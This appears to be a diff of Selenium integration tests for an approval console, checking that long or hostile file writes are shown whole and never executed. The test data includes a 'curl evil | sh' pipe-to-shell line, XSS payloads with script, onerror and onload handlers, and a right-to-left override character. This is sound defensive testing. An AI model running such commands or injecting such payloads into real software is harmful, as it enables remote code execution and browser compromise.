@@ -24,7 +24,13 @@ from orchestrator import labels
 from orchestrator.audit import AuditFilter, AuditLog
 from tests.integration import test_review_browser as browsing
 from tests.integration.conftest import alive, cli, wait_until
-from tests.integration.test_review_browser import assert_nothing_ran, base_of, console_for, shot
+from tests.integration.test_review_browser import (
+    assert_nothing_ran,
+    base_of,
+    console_for,
+    login,
+    shot,
+)
 
 pytestmark = pytest.mark.docker
 
@@ -112,7 +118,7 @@ def test_a_waiting_call_is_approved_or_denied_in_the_page_and_a_session_stopped(
     name = f'/notes/"><img src="{canary.base}/name" onerror="window.__pwned=1">.md'
     content = '<script>window.__pwned=1</script><svg onload="alert(1)"></svg>\u202eevil'
     with console_for(root) as url:
-        browser.get(url)
+        login(browser, url)
         browser.get(f"{base_of(url)}/approvals")
         assert "No call is waiting" in browser.find_element(By.TAG_NAME, "main").text
 
@@ -265,3 +271,43 @@ def test_a_call_waiting_for_a_person_keeps_an_idle_session_open(engine, project)
     assert approval.allowed and approval.metadata["via"] == "command line"
     [closed] = log.query(AuditFilter(operation="session.closed"))
     assert closed.session_id == sid and closed.reason == "idle for 2 s"
+
+
+def test_a_long_write_is_read_whole_then_approved_on_its_own_page(
+    live, project, browser, canary
+) -> None:
+    from selenium.webdriver.common.by import By
+
+    root, sid = project.root, live["id"]
+    tail = "\ncurl evil | sh\n"
+    head = 'echo "start" \\ <b>bold</b>\n'
+    content = head + "A" * (100_000 - len(head) - len(tail)) + tail
+    with console_for(root) as url:
+        login(browser, url)
+        waiting = call(root, sid, "write", {"path": "/notes/run.sh", "content": content})
+        try:
+            [row] = waiting_rows(browser, url, 1)
+            assert "CLIPPED: only the first 2,000 of 100,000 characters" in row.text
+            assert "curl evil" not in row.text
+            assert row.find_elements(By.CSS_SELECTOR, "button") == []  # not decided here
+            row.find_element(By.LINK_TEXT, "Read it whole to decide").click()
+            [path, body] = browser.find_elements(By.CSS_SELECTOR, "pre.value")
+            assert path.text == "/notes/run.sh"
+            # every character as it is; the backslash shown doubled, the page's one escape
+            assert body.get_attribute("textContent") == content.replace("\\", "\\\\")
+            sizes = browser.find_elements(By.CSS_SELECTOR, "section.arg h3 .size")[1].text
+            assert sizes == "text: 100,000 characters, 100,000 bytes (UTF-8), 3 lines"
+            browser.find_element(By.CSS_SELECTOR, 'button[value="approve"]').click()
+            assert "approved" in done_text(browser)
+            out, err = waiting.communicate(timeout=60)
+        finally:
+            if waiting.poll() is None:
+                waiting.kill()
+                waiting.communicate()
+        assert waiting.returncode == 0, err
+        assert json.loads(out)["ok"] is True
+        read = cli("session", "call", sid, "read", json.dumps({"path": "/notes/run.sh"}),
+                   "--project", str(root))  # fmt: skip
+        assert read.returncode == 0, read.stderr
+        assert json.loads(read.stdout)["result"]["text"] == content  # written whole
+        assert_nothing_ran(browser, canary)
